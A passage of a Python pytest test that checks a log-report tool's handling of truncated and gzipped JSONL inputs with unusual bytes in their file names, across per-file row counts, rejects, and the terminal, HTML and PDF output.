    shown = {str(tmp_path / "in" / name) for name in
             ("bad\\xffname.jsonl", "cut\\xff.jsonl.gz", "projects/pr\\xfeoj/s\\xff.jsonl")}
    report = report_of(out)
    # truncated.jsonl (log): 7 read = 3 + 4 rejected; its gzip: 2 records, then the break; the transcript: 8 read,
    # 3 loaded, 5 rejected (the cases log_truncated, log_truncated_gzip and cc_truncated above).
    counts = {i["path"]: (i["rows_read"], i["rows_loaded"], i["rows_rejected"]) for i in report["inputs"]}
    assert counts == dict(zip(sorted(shown), [(7, 3, 4), (2, 2, 0), (8, 3, 5)], strict=True))
    assert {f for f, _, _ in rejects_of(out)} == shown - {str(tmp_path / "in" / "cut\\xff.jsonl.gz")}
    assert "pr\\xfeoj" in {row["project"] for row in report["spend_by"]["project"]}  # the transcript's folder
    terminal = "".join(result.output.split())  # long paths wrap
    assert "cut\\xff.jsonl.gz:readingstoppedafter2records" in terminal
    html = (out / "report.html").read_text(encoding="utf-8")
    assert all(name[len(str(tmp_path / "in")) + 1:] in html for name in shown)  # relative to the input folder
    if shutil.which("pdftotext") and env is None:
        text = subprocess.run(["pdftotext", str(out / "report.pdf"), "-"], capture_output=True, text=True,
                              check=True).stdout
        assert "bad\\xffname.jsonl" in "".join(text.split())
